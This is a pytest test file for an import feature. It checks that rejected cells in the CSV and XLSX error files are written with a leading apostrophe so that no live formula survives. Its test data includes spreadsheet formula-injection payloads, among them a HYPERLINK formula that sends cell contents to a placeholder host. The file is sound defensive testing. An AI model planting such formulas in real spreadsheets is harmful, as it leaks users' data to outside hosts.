"""The error file never carries a live formula: a rejected cell starting with = + - @, tab
or CR is written with a leading apostrophe, in CSV and XLSX (issue #9)."""

import csv
import io

import pytest

from kehu.imports import selectors

from .conftest import run_import, write_csv

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.fixture
def job(org, tmp_path):
    # No name: every row is rejected and lands in the error file with its cells.
    rows = [["姓名", "城市"], *[["", evil] for evil in EVIL]]
    path = write_csv(tmp_path / "evil.csv", rows)
    path.write_text(path.read_text(encoding="utf-8").replace("城市", "=城市"), encoding="utf-8")
    job = run_import(org.alice, "customers", path, dry_run=True)
    assert job.failed == len(EVIL)
    return job


def test_csv_error_file_escapes_formulas(job):
    content, _type, _name = selectors.error_file(job, "csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0][1] == "'=城市"
    cities = [row[1] for row in rows[1:]]
    # The reader strips the tab and CR; what is left starts a formula and is escaped.
    assert sorted(cities) == sorted("'" + e.strip() for e in EVIL)


def test_xlsx_error_file_holds_no_formula(job):
    from openpyxl import load_workbook

    content, _type, _name = selectors.error_file(job, "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["B1"].value == "'=城市"
    assert sorted(sheet.cell(row=r, column=2).value for r in range(2, 2 + len(EVIL))) == sorted(
        "'" + e.strip() for e in EVIL
    )
